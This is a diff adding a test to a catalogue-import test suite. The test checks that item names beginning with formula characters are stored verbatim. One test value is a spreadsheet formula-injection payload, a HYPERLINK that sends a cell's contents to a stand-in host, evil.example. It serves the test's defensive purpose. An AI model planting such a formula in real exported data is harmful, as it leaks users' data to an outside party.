@@ -163,4 +163,15 @@ describe.each(await testEngines())('catalogue import on %s', (engine) => {
     expect(answer.body).toMatchObject({ created: 1 });
     expect((await items(rival)).map((item) => item.name)).toEqual(['Tea']);
   });
+
+  it('keeps text that a spreadsheet would run as a formula exactly as the file had it (exports neutralise it)', async () => {
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"Tea")';
+    const answer = await post({ rows: [row(90, { name, group: '@Formulas', barcode: '-4780000000090' }), row(91, { name: '+1 tea' }), row(92, { name: '-2' })] });
+    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
+    const list = await items();
+    expect(list.find((item) => item.name === name)).toMatchObject({ shtrix: '-4780000000090' });
+    expect(list.filter((item) => item.name === '+1 tea' || item.name === '-2')).toHaveLength(2);
+    const groups = (await server.request('GET', '/api/v1/item-modifier/item-groups/all', { token: shop.token })).body as { name: string }[];
+    expect(groups.map((group) => group.name)).toContain('@Formulas');
+  });
 });
